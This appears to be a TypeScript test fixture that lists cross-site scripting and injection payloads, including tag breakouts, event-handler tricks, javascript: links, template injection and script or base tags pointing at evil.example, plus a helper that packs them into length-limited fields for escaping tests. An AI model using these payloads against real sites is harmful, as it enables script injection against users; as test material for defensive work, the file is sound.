import { hostileAddresses, hostileHtml } from './hostile-html.ts'

/** What would end a script, a comment, a title or a line of script if a text were put into one. */
export const hostileWords = [
  '</script><script>alert(1)</script>',
  '<!--<script>',
  '--><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '"><svg onload=alert(1)>',
  `' onmouseover='alert(1)`,
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '\u2028alert(1)\u2029',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<a href="javascript:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '\\u003cscript>\\',
  '<SCRIPT/SRC=//evil.example>',
  '</ScRiPt >',
  '<script type="module">',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0>',
  '\u202Egpj.exe',
  '<iframe srcdoc="<script>alert(1)</script>">',
]

/** All of them with all hostile markup; PostgreSQL keeps every character but NUL. */
export const hostileTexts = [...new Set([...hostileWords, ...hostileAddresses, ...hostileHtml()])]
  .map((vector) => vector.replaceAll('\0', ''))
  .filter((vector) => vector.trim() !== '')

/**
 * Ends whatever a vector has left open, as far as it can be ended, so that the next one is read as
 * markup, too.
 */
export const END = `"'>--></script></style></title></textarea></xmp></noscript></select></svg></math>`

/** What a text stands between when many are dealt out at once, and what it begins with. */
type Joined = { begins: string; between: string }

/**
 * Deals vectors out in their turn, as many at once as there is room for; from the start again when
 * all have been dealt.
 */
export function dealer(vectors: readonly string[]) {
  let waiting = [...vectors]
  let wasDealt = false

  function deal(room: number, { begins, between }: Joined): string {
    const dealt: string[] = []
    let left = room - begins.length
    waiting = waiting.filter((vector) => {
      const length = vector.length + between.length
      if (length > left) return true
      left -= length
      dealt.push(vector)
      return false
    })
    if (waiting.length === 0) {
      wasDealt = true
      waiting = [...vectors]
    }
    return begins + dealt.join(between)
  }
  return { deal, isDone: () => wasDealt }
}
